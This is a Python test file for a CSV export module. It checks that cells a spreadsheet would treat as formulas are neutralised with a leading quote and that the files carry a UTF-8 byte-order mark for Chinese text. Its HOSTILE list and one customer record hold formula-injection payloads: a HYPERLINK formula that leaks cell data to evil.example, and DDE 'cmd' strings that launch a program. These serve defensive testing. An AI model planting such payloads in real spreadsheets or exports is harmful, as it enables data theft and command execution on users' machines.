"""CSV exports are safe to open in a spreadsheet (no formulas from data) and open in Excel with
Chinese intact (UTF-8 with a byte-order mark)."""

from __future__ import annotations

import codecs
import csv
from decimal import Decimal
from pathlib import Path

import pytest

from sync_engine.client.cli import main
from sync_engine.client.csv_export import spreadsheet_cell, write_csv
from tests.client.offline import CUSTOMER_A, CUSTOMER_B, apply, change, offline_engine

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [
    ("可口可乐", "可口可乐"), ("", ""), (None, ""), ("a=b", "a=b"), (" =1", " =1"),
    ("'quoted", "'quoted"), (12, "12"), (-5, "-5"), (Decimal("-12.50"), "-12.50"),
    (Decimal("1E+2"), "100"), (True, "True"), ("-5", "'-5"),
])
def test_numbers_stay_numbers_and_ordinary_text_is_unchanged(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


def test_write_csv_has_a_bom_and_quotes_hostile_cells(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert write_csv(path, ["name", "amount"], [["=1+1", Decimal("-3.50")], ["青岛啤酒", 7]]) == 2
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8) and "青岛啤酒".encode() in raw
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows == [["name", "amount"], ["'=1+1", "-3.50"], ["青岛啤酒", "7"]]


def test_cli_export_neutralises_names_and_notes(tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    engine = offline_engine(tmp_path / "dev")
    try:
        # Customer names arrive from the ERP import; notes from any rep or store owner.
        apply(engine, change("customer", str(CUSTOMER_B), {
            "id": CUSTOMER_B, "code": "CUST-B", "name": "=cmd|' /C calc'!A0", "name_en": "",
            "address": "", "phone": "", "rep_id": 7, "warehouse_id": 1, "credit_limit": None,
            "payment_terms": "", "active": True}, version=2))
        for notes in HOSTILE[:4]:
            engine.create_draft(CUSTOMER_A, {2: 1}, notes=notes)
        engine.create_draft(CUSTOMER_B, {2: 3}, notes="请周五前送货")
    finally:
        engine.close()
    out = tmp_path / "orders.csv"
    assert main(["--data-dir", str(tmp_path / "dev"), "export", str(out)]) == 0
    assert "exported 5 orders" in capsys.readouterr().out
    raw = out.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert sorted(r["notes"] for r in rows if r["customer_id"] == str(CUSTOMER_A)) == sorted(
        "'" + text for text in HOSTILE[:4])
    chinese = next(r for r in rows if r["customer_id"] == str(CUSTOMER_B))
    assert chinese["customer_name"] == "'=cmd|' /C calc'!A0"
    assert chinese["notes"] == "请周五前送货"
    assert chinese["gross"] == "33.90"  # 3 × 10.00 + 13 % VAT, a number
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
